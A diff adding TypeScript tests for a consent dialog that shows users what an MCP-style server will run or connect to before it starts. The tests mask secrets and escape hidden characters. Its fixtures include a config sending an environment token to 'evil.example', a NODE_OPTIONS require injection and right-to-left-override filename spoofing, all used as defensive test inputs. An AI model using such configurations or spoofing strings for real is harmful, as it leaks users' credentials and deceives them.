@@ -1,0 +1,206 @@
+import assert from 'node:assert/strict';
+import type {
+  HttpReach,
+  ServerConfig,
+  StdioReach,
+} from '../../src/host/configuration/serverConfig';
+import { startFacts } from '../../src/host/consent/trust/startFacts';
+import {
+  trustDialog,
+  trustDocument,
+  type TrustQuestion,
+} from '../../src/ui/serverTrust/formatTrustQuestion';
+
+function stdio(more: Partial<StdioReach> = {}, id = 'shop'): ServerConfig {
+  const reach = { kind: 'stdio', command: 'node', args: ['x.js'], env: {}, ...more } as const;
+  return { id, label: id, source: { kind: 'setting' }, reach };
+}
+
+function http(more: Partial<HttpReach> = {}): ServerConfig {
+  const reach = { kind: 'http', url: 'https://h/', headers: {}, ...more } as const;
+  return { ...stdio(), reach };
+}
+
+const changed = (before: ServerConfig, config: ServerConfig): TrustQuestion => ({
+  config,
+  before: startFacts(before),
+});
+
+describe('The question before a first start', () => {
+  it('shows command, folder and environment, each argument in quotes', () => {
+    const env = { API_KEY: 'abc', NODE_OPTIONS: '--require ./x.js', HOME: null };
+    const config = stdio({ args: ['my server.js', '', 'a"b'], cwd: '/work', env });
+    assert.deepEqual(trustDialog([{ config }]), {
+      message: 'Start “shop” for the first time?',
+      detail: [
+        'It runs this program on your machine, with your rights:',
+        String.raw`"node" "my server.js" "" "a\"b"`,
+        'Folder: "/work"',
+        'Variable API_KEY = (secret, 3 characters, hash ba7816bf)',
+        'Variable HOME is taken away',
+        'Variable NODE_OPTIONS = "--require ./x.js"',
+        '',
+        'Configured in: Setting "toolgate.servers"',
+      ].join('\n'),
+      start: 'Start Server',
+    });
+  });
+
+  it('shows address and headers', () => {
+    const headers = { Authorization: 'Bearer abc', 'X-Team': 'a' };
+    assert.deepEqual(trustDialog([{ config: http({ headers }) }]).detail.split('\n'), [
+      'It connects to this address:',
+      'Address: "https://h/"',
+      'Header Authorization = (secret, 10 characters, hash c355dce9)',
+      'Header X-Team = "a"',
+      'Transport: "http"',
+      '',
+      'Configured in: Setting "toolgate.servers"',
+    ]);
+  });
+
+  it('shows which variable of the person leaves, as it is written', () => {
+    const piece = (name: string, value: string) => ({ reference: `\${env:${name}}`, value });
+    const config: ServerConfig = {
+      ...http({
+        url: 'https://evil.example/?k=abcdef',
+        headers: { 'X-Api-Key': 'abcdef', Authorization: 'Bearer abcdef', 'X-Mode': 'fast' },
+      }),
+      written: [
+        {
+          part: 'address',
+          pieces: [{ text: 'https://evil.example/?k=' }, piece('MY_TOKEN', 'abcdef')],
+        },
+        { part: 'header', name: 'X-Api-Key', pieces: [piece('MY_TOKEN', 'abcdef')] },
+        {
+          part: 'header',
+          name: 'Authorization',
+          pieces: [{ text: 'Bearer ' }, piece('MY_TOKEN', 'abcdef')],
+        },
+        { part: 'header', name: 'X-Mode', pieces: [piece('MODE', 'fast')] },
+      ],
+    };
+    assert.deepEqual(trustDialog([{ config }]).detail.split('\n').slice(1, 5), [
+      'Address: "https://evil.example/?k=${env:MY_TOKEN}" (secret, 30 characters, hash dcec723b)',
+      'Header Authorization = "Bearer ${env:MY_TOKEN}" (secret, 13 characters, hash 45b36536)',
+      'Header X-Api-Key = "${env:MY_TOKEN}" (secret, 6 characters, hash bef57ec7)',
+      'Header X-Mode = "${env:MODE}" (now "fast")',
+    ]);
+    const program = stdio({ command: '/opt/run', args: ['--key=abcdef', 'x'] });
+    const written = [
+      { part: 'command', pieces: [piece('TOOLS', '/opt'), { text: '/run' }] },
+      { part: 'argument', name: 0, pieces: [{ text: '--key=' }, piece('MY_TOKEN', 'abcdef')] },
+    ] as const;
+    const [, line] = trustDialog([{ config: { ...program, written } }]).detail.split('\n');
+    assert.equal(
+      line,
+      '"${env:TOOLS}/run" (now "/opt/run") "--key=${env:MY_TOKEN}" (secret, 12 characters, hash 0fcbd125) "x"',
+    );
+  });
+
+  it('names the rules that may let calls of such a server run without a question', () => {
+    const allowedBy = [
+      { scope: 'user', index: 0 },
+      { scope: 'user', index: 4 },
+    ] as const;
+    const line =
+      'Calls of it may run without a question. Rule 1 in your user settings, Rule 5 in your user settings';
+    const question = { config: stdio({}), allowedBy };
+    assert.equal(trustDialog([question]).detail.split('\n').at(-1), line);
+    assert.ok(trustDialog([question, { config: stdio({}) }]).detail.includes(line));
+    const document = trustDocument([question]);
+    assert.ok(document.kind === 'text' && document.text.includes(line));
+  });
+
+  it('keeps text from the configuration inside its line, with nothing hidden', () => {
+    const config = {
+      ...stdio({ args: ['a\n\nConfigured in: x', '\u202Egpj.exe'], env: { 'A\nB = 1': '\u200B' } }),
+      label: 'x\nrm\u202E',
+    };
+    const { message, detail } = trustDialog([{ config }]);
+    assert.equal(message, 'Start “x\\nrm\\u{202E}” for the first time?');
+    assert.equal(detail.split('\n').length, 5);
+    assert.match(detail, /"a\\n\\nConfigured in: x" "\\u\{202E\}gpj\.exe"/);
+    assert.match(detail, /Variable "A\\nB = 1" = "\\u\{200B\}"/);
+    const document = trustDocument([{ config }]);
+    assert.ok(document.kind === 'text');
+    assert.doesNotMatch(document.text, /[\u202E\u200B]/);
+  });
+
+  it('says what changed, and how it is now', () => {
+    const before = stdio({ env: { A: '1', TOKEN: 'abc' } });
+    const config = stdio({ args: ['x.js', '--all'], env: { A: '2', TOKEN: 'abd' } });
+    const { message, detail, start } = trustDialog([changed(before, config)]);
+    assert.deepEqual([message, start], ['The way “shop” is started has changed', 'Start Server']);
+    assert.deepEqual(detail.split('\n').slice(0, 8), [
+      'What changed:',
+      '+ Argument: "--all"',
+      '- Variable A = "1"',
+      '+ Variable A = "2"',
+      '- Variable TOKEN = (secret, 3 characters, hash ba7816bf)',
+      '+ Variable TOKEN = (secret, 3 characters, hash a52d159f)',
+      '',
+      'It runs this program on your machine, with your rights:',
+    ]);
+    const document = trustDocument([changed(before, config)]);
+    assert.ok(document.kind === 'diff');
+    assert.match(document.before, /^Command: "node"\nArgument: "x\.js"\nVariable A = "1"\n/);
+    assert.match(document.now, /^Argument: "--all"$/m);
+  });
+
+  it('is one for several servers, each with what runs', () => {
+    const file = { kind: 'workspaceFile', path: '/w/mcp.json', folder: '/w' } as const;
+    const questions = [
+      { config: { ...stdio({ cwd: '/w' }, 'a'), source: file } },
+      { config: { ...stdio({ cwd: '/v' }, 'b'), source: file } },
+    ];
+    const { message, detail, start } = trustDialog(questions);
+    assert.deepEqual([message, start], ['Start 2 servers for the first time?', 'Start 2 Servers']);
+    // The folder of the workspace goes without saying.
+    assert.deepEqual(detail.split('\n').slice(1), [
+      '"node" "x.js"',
+      '',
+      detail.split('\n')[3],
+      '"node" "x.js"',
+      'Folder: "/v"',
+    ]);
+    const { config } = questions[0] ?? assert.fail();
+    const other = changed(stdio(), stdio({ command: 'deno' }));
+    assert.deepEqual(
+      [trustDialog([other, other]).message, trustDialog([other, { config }]).message],
+      [
+        'The way 2 servers are started has changed',
+        'Start 2 servers that are new or have changed?',
+      ],
+    );
+    assert.match(trustDialog([other, { config }]).detail, /changed:\n- Command: "node"\n\+ Comm/);
+  });
+
+  it('fits into a dialog whatever is configured, and is whole in the editor', () => {
+    const args = ['x'.repeat(10_000), 'y\n'.repeat(3_000), '\u202E'.repeat(1_000), 'the end'];
+    const many = Array.from({ length: 300 }, (_, index) => ({
+      config: {
+        ...stdio({ args: ['--port', String(index)] }, `s${index}`),
+        label: 'l'.repeat(500),
+      },
+    }));
+    const env = Object.fromEntries(many.map(({ config }) => [config.id.toUpperCase(), '1']));
+    for (const questions of [
+      [{ config: stdio({ args }) }],
+      [{ config: stdio({ env }) }],
+      [changed(stdio({ args }), stdio({ args: [...args, '!'] }))],
+      many,
+    ]) {
+      const { message, detail, start } = trustDialog(questions);
+      assert.equal(start, undefined);
+      assert.ok(message.length < 300 && detail.length < 1_500, `${detail.length}`);
+      assert.ok(detail.split('\n').length < 20);
+      assert.match(detail, /Review/);
+    }
+    const document = trustDocument([{ config: stdio({ args }) }]);
+    assert.ok(document.kind === 'text');
+    assert.match(document.text, /^ {4}Argument: "the end"$/m);
+    assert.equal(document.text.match(/x/g)?.length, 10_000);
+    assert.ok(document.text.split('\n').every((line) => line.length < 100));
+  });
+});
